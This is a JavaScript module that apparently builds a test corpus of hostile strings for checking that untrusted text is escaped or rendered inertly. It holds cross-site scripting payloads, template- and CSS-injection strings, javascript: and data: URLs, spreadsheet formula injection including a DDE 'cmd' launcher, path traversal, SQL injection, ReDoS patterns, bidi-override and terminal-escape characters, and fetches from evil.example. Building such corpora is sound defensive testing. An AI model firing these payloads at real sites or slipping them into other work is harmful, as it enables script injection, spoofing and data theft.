// Texts that do harm wherever somebody takes them for more than text. What would run sets `pwned`, what would be fetched is of evil.example.
const RUN = "globalThis.pwned=1";
const IMG = `<img src=x onerror=${RUN}>`;
const every = (from, to) => Array.from({ length: to - from + 1 }, (_, at) => String.fromCharCode(from + at)).join("");

/** Where a name is a key of an object, these are there already. */
export const KEYS = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "length"];

const MARKUP = [
  IMG, `<script>${RUN}</script>`, `</script><script>${RUN}</script>`, `<ScRiPt src=//evil.example/pwned.js></sCrIpT>`, `<img src="https://evil.example/pwned.png">`,
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `</text></svg>${IMG}`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`, `<svg><foreignObject>${IMG}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src=javascript:parent.pwned=1>`, `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src=//evil.example/pwned.swf>`, `<link rel=stylesheet href=//evil.example/pwned.css>`, `<meta http-equiv=refresh content="0;url=//evil.example/pwned">`,
  `<base href=//evil.example/pwned/>`, `<form action=//evil.example/pwned><button autofocus>`, `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`,
  `<a href="javascript:${RUN}">pwned</a>`, `<template shadowrootmode=open>${IMG}</template>`, `<c1z-viewer src=//evil.example/pwned.c1z>`,
  `<noscript><p title="</noscript>${IMG}">`, `<!-->${IMG}-->`, `<![CDATA[${IMG}]]>`, `&lt;img src=x onerror=${RUN}&gt;&#x3c;script&#x3e;`, `</title>${IMG}`, `</textarea>${IMG}`,
  `<audio src onerror=${RUN}>`, `<style>@import "//evil.example/pwned.css"</style>`, `<dialog open onfocus=${RUN}>alert('pwned')`, `<script>alert('pwned')</script>`,
];
const ATTRIBUTES = [
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`, `' onmouseover='${RUN}' x='`, `">${IMG}`, `'>${IMG}`, `\` onmouseover=${RUN} \``, `--><svg onload=${RUN}>`, `pwned " ' \` & < >`,
];
const TEMPLATES = [
  `\${${RUN}}`, `{{${RUN}}}`, `{{constructor.constructor('${RUN}')()}}`, `#{${RUN}}`, `<%= ${RUN} %>`, "lit$123456789$pwned", "<!--?lit$123456789$-->pwned", "?lit$1$ pwned", "$& $1 $` $' $$ pwned", "%s %d %n pwned",
];
const STYLES = [
  `</style>${IMG}`, `expression(${RUN})`, "url(//evil.example/pwned)", "x;background:url(https://evil.example/pwned)", "}*{background:url(//evil.example/pwned)}", "\\3c img pwned", "x\" style=\"background:url(//evil.example/pwned)",
];
/** Addresses that must never be opened, and some that only look strange. */
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, ` \u0001javascript:${RUN}`, `javascript://evil.example/%0a${RUN}`, `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", "DATA:text/html,pwned", `vbscript:${RUN}`, "//evil.example/pwned", "\\\\evil.example\\pwned", "blob:https://evil.example/pwned", "file:///etc/passwd#pwned",
  "https://evil.example/pwned", "https://user:pass@evil.example/pwned", "hTTps:evil.example/pwned", "https://evil.example/\u202egnp.pwned", "https://ex\u0430mple.com/pwned", "https://evil.example/\"onclick=\"pwned",
  "mailto:a@evil.example?subject=pwned&body=%0d%0a", "ht\ttps://evil.example/pwned", "\thttps://evil.example/pwned",
];
export const FORMULAS = [
  "=cmd|'/C calc'!A0 pwned", "+pwned+cmd|' /C calc'!A0", "-2+3+pwned", "@SUM(1+1)*pwned", "\t=pwned", "\r=pwned", "\n=pwned", `=HYPERLINK("http://evil.example/pwned","x")`, "\"=pwned,\"", ";=pwned", " =pwned", "\uff1dpwned",
];
/** What cannot be seen, or turns around what is beside it. */
export const HIDDEN = [
  "pwned\u202egpj.exe", "\u202epwned", "\u2066pwned\u2067x\u2068y", "pwned\u2069\u2069\u202c\u202c end", "\u202dpwned\u202d", "\u200fpwned\u061c", "\u05d0\u05d1\u05d2 pwned \u05e9\u05dc\u05d5\u05dd",
  "p\u200bwned pwned", "\ufeffpwned", "pwned\u2060\u00ad\u200d", "pwned\u{e0041}\u{e007f}", "pwned\ufe0f\u{e0100}", `pwned${every(0, 0x1f)}`, `pwned${every(0x7f, 0x9f)}`, "pwned\0tail", "pwned\u2028x\u2029y",
  "\x1b[31mpwned\x1b[2J\x1b]0;pwned\x07", "\x9b31mpwned\x9d0;pwned\x9c", "\x1b]8;;http://evil.example/pwned\x07link\x1b]8;;\x07", "\x1bP pwned\x1b\\\x1b[6n", "pwned\b\b\b\b\bok", "pwned\rok", "pwned\ufffe\uffff\u{1ffff}\ufff9\ufffb",
  `pwned${"\u0301\u0338".repeat(120)}`, "pwned\u3164\u115f", "pwned\u{1f468}\u200d\u{1f469}",
];
const REST = [
  `pwned${"A".repeat(3000)}`, `pwned ${"\u{1f4a9}".repeat(300)}`, ".*+?^${}()|[]\\pwned", "(pwned+)+$", "[pwned", "\\pwned\\", "' OR 1=1;-- pwned", "pwned%_", "../../../etc/pwned", "C:\\pwned\\..", "\"}],\"pwned\":[{\"", "\\u003cimg pwned\\u003e",
  "type:user AND pwned", "\"pwned", "-pwned", "pwned:\"x\"", "name=pwned|x", "NaN pwned", "1e999pwned", "2026-01-01T00:00pwned\u202e<b>", "PWNED_X", "null", "undefined", "[object Object]",
];
export const CORPUS = [...MARKUP, ...ATTRIBUTES, ...TEMPLATES, ...STYLES, ...ADDRESSES, ...FORMULAS, ...HIDDEN, ...REST, ...KEYS];
